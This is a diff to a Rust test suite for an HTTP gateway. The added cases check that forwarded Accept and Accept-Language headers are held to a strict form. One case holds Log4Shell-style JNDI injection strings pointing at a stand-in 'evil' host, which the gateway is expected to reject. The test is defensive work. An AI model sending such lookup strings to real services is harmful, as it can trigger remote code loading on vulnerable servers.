@@ -127,7 +127,7 @@ async fn no_field_of_a_caller_goes_up() {
     assert!(requests[0].header("user-agent").unwrap().starts_with("tsmgated/"));
 }
 
-/// R60: the two fields that pass do so once, of visible bytes, and with a limit; a body says what it is
+/// R60: the two fields that pass do so once, of plain bytes, and with a limit; a body says what it is
 /// in the gate's words
 #[tokio::test]
 async fn the_fields_that_pass_are_held_to_a_form() {
@@ -147,7 +147,18 @@ async fn the_fields_that_pass_are_held_to_a_form() {
             None,
         ),
         ("Accept: \u{e4}/b\r\nAccept-Language: a\tb\r\n", "application/json", None),
-        ("Accept:\r\nAccept_Language: de\r\n", "", None),
+        ("Accept:\r\nAccept_Language: de\r\n", "application/json", None),
+        (
+            "Accept: ${jndi:ldap://evil/a}\r\nAccept-Language: ${jndi:dns:evil}\r\n",
+            "application/json",
+            None,
+        ),
+        ("Accept: a/b;c=\"d\"\r\nAccept-Language: <de>\r\n", "application/json", None),
+        (
+            "Accept: text/html, application/vnd.x+json;q=0.9, */*;q=0.8\r\nAccept-Language: *\r\n",
+            "text/html, application/vnd.x+json;q=0.9, */*;q=0.8",
+            Some("*"),
+        ),
         (&long, "application/json", None),
     ];
     for (lines, _, _) in &cases {
